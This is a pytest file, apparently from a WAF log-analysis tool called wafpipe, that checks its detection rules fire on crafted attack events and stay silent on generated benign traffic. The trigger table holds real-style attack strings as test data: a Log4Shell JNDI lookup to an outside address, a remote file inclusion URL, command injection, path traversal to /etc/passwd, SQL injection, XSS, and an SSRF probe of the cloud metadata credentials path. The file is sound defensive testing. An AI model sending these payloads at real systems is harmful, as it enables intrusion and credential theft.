"""The rules wafpipe ships: each one fires on events built to trigger it, and none fires on 100 000
benign generated events (the false-positive count of every rule is written to
``test-artifacts/detect/false_positives.txt``)."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.detect.events import T0, store_of, web_event
from wafpipe.decode.reader import read_path
from wafpipe.detect import SHIPPED_RULES, Correlation, Detection, Rule, load_paths
from wafpipe.model import Event
from wafpipe.sinks.duckdb.sink import DuckDBSink
from wafpipe.store.service import ReadService
from wafpipe.tools.generate import generate_files

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "detect"
BENIGN_EVENTS = 100_000
BENIGN_START = datetime(2026, 5, 1, tzinfo=UTC)


def one(**fields: Any) -> Callable[[str], list[Event]]:
    return lambda key: [web_event(key, **fields)]


def many(n: int, every_s: float, **fields: Any) -> Callable[[str], list[Event]]:
    """``n`` events ``every_s`` apart; a field given as a function of the index varies per event."""
    def build(key: str) -> list[Event]:
        return [web_event(f"{key}-{i}", at=T0 + timedelta(seconds=every_s * i),
                          **{k: v(i) if callable(v) else v for k, v in fields.items()}) for i in range(n)]  # fmt: skip
    return build


CONTEXT = "context"  # in the id of an event a trigger needs that is not itself part of the finding
SINCE = T0 - timedelta(hours=1)  # where the triggers' findings start (the context may be older)

# rule title → the events that must make it fire (each on its own address and site)
TRIGGERS: dict[str, Callable[[str], list[Event]]] = {
    "SQL injection or cross-site scripting that the WAF let through":
        one(category="SQL Injection", act="REQ_PASSED", security=True, query="id=1"),
    "Web scanner or attack tool user agent":
        one(ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    "Path traversal in the requested URL": one(path="/download/../../etc/passwd"),
    "SQL injection strings in the query": one(query="id=1%27%20OR%201%3D1"),
    "Cross-site scripting strings in the query": one(query="q=%3Cscript%3Ealert(1)%3C/script%3E"),
    "JNDI lookup (Log4Shell) in a request": one(ua="${jndi:ldap://198.51.100.1/a}"),
    "Server-side template injection probe": one(query="name={{7*7}}"),
    "Spring class loader manipulation (Spring4Shell)":
        one(query="class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    "Cloud instance metadata address in a request (SSRF)":
        one(query="target=169.254.169.254/latest/meta-data/iam/security-credentials/"),
    "Operating system command injection in the query": one(query="host=127.0.0.1%7Cwhoami"),
    "Request for a known web shell": one(path="/uploads/c99.php"),
    "Probe for secrets and source files": one(path="/.env", status=404),
    "Remote file inclusion in the query": one(query="page=http://198.51.100.9/shell.txt"),
    "Unusual HTTP method": one(method="TRACE"),
    "Scanner: many missing paths from one source": many(50, 3, status=404, path=lambda i: f"/admin{i}.php"),
    "One source attacking several sites":
        many(3, 60, security=True, category="Illegal Resource Access", act="REQ_BLOCKED",
             site=lambda i: f"site{i}.example.com"),
    "Bad bot surge on a site": many(100, 2, category="Bad Bot", security=True, act="REQ_BLOCKED",
                                    ip=lambda i: f"203.0.113.{i % 250}"),
    "Many failed logins from one source": many(20, 5, method="POST", path="/account/login", status=401),
    "Login path hit from many sources (credential stuffing)":
        many(50, 6, method="POST", path="/login", ip=lambda i: f"198.18.0.{i}"),
    "Fuzzing: one source, hundreds of distinct URLs": many(250, 1, query=lambda i: f"p={i}"),
    "WordPress XML-RPC brute force": many(20, 5, method="POST", path="/xmlrpc.php"),
    "Blocked then passed on one site": lambda key: [
        web_event(f"{key}-0", security=True, category="SQL Injection", act="REQ_BLOCKED", site="bp.example.com"),
        web_event(f"{key}-1", at=T0 + timedelta(minutes=20), security=True, category="SQL Injection",
                  act="REQ_PASSED", site="bp.example.com")],
    # two hours of 20 requests per 5 minutes, then 700 in one 5 minutes
    "Request-rate spike on a site": lambda key: [
        *many(480, 15, site="spike.example.com", ip=lambda i: f"192.0.2.{i % 200}")(f"{key}-{CONTEXT}"),
        *[web_event(f"{key}-{i}", at=T0 + timedelta(hours=2, seconds=30 + 0.4 * i), site="spike.example.com",
                    ip="203.0.113.200") for i in range(700)]],
    # attacks from DE for a week, then one from KP
    "Attacks from a country new to a site": lambda key: [
        *[web_event(f"{key}-{CONTEXT}{d}", at=T0 - timedelta(days=d + 1), security=True, category="SQL Injection",
                    act="REQ_BLOCKED", site="nc.example.com") for d in range(7)],
        web_event(f"{key}-kp", at=T0 + timedelta(minutes=30), security=True, category="SQL Injection",
                  act="REQ_BLOCKED", site="nc.example.com", country="KP")],
}  # fmt: skip


def alerting(rules: list[Detection]) -> list[Detection]:
    return [r for r in rules if not isinstance(r, Rule) or r.standalone]


def fired(service: ReadService, rule: Detection, since: datetime | None = None) -> set[str]:
    """The ids of the events the rule alerts on from ``since`` (for a correlation: those of its groups)."""
    if isinstance(rule, Correlation):
        found = service.correlate(rule.base, list(rule.group_by), rule.timespan_s, rule.threshold,
                                  **rule.pattern(), since=since, max_ids=10_000)  # fmt: skip
        return {i for g in found["groups"] for i in g["ids"]}
    assert isinstance(rule, Rule)
    return {e["_id"] for e in service.search(rule.tree, limit=10_000, fields=["_id"])["events"]}


@pytest.fixture(scope="module")
def rules() -> list[Detection]:
    return alerting(load_paths([SHIPPED_RULES]))


def test_there_are_at_least_twenty_and_each_has_a_trigger(rules: list[Detection]) -> None:
    assert len(rules) >= 20
    assert {r.title for r in rules} == set(TRIGGERS)


@pytest.fixture(scope="module")
def triggered(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ReadService, dict[str, set[str]]]]:
    own: dict[str, set[str]] = {}
    events: list[Event] = []
    for n, (title, build) in enumerate(TRIGGERS.items()):
        made = build(f"t{n}")
        own[title] = {e.id for e in made if CONTEXT not in e.id}
        events += made
    sink = store_of(tmp_path_factory.mktemp("triggers") / "store.duckdb", events)
    yield ReadService(sink.cursor), own
    sink.close()


def test_every_rule_fires_on_its_trigger(rules: list[Detection], triggered: tuple[ReadService, dict[str, set[str]]]) -> None:
    service, own = triggered
    missed = {r.title: sorted(own[r.title] - fired(service, r, SINCE))[:3] for r in rules
              if own[r.title] - fired(service, r, SINCE)}  # fmt: skip
    assert not missed


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ReadService]:
    """100 000 generated events of ordinary traffic (no attacks), over two days."""
    root = tmp_path_factory.mktemp("benign")
    paths = generate_files(root / "files", events=BENIGN_EVENTS, files=10, attack_ratio=0.0, start=BENIGN_START,
                           end=BENIGN_START + timedelta(days=2), seed=24)  # fmt: skip
    sink = DuckDBSink(root / "store.duckdb")
    sink.open()
    for path in paths:
        for batch in read_path(path).batches(path.name):
            sink.write(batch)
    yield ReadService(sink.cursor)
    sink.close()


def test_no_rule_fires_on_benign_traffic(rules: list[Detection], benign: ReadService) -> None:
    assert benign.count()["count"] == BENIGN_EVENTS
    # a new value is new after a history: the second day's against the first
    counts = {r.title: len(fired(benign, r, BENIGN_START + timedelta(days=1) if getattr(r, "kind", "") == "new_value"
                                 else None)) for r in rules}  # fmt: skip
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / "false_positives.txt").write_text(
        f"false positives of each shipped rule on {BENIGN_EVENTS} benign generated events\n"
        + "".join(f"{n:6d}  {title}\n" for title, n in sorted(counts.items()))
    )
    assert {title: n for title, n in counts.items() if n} == {}
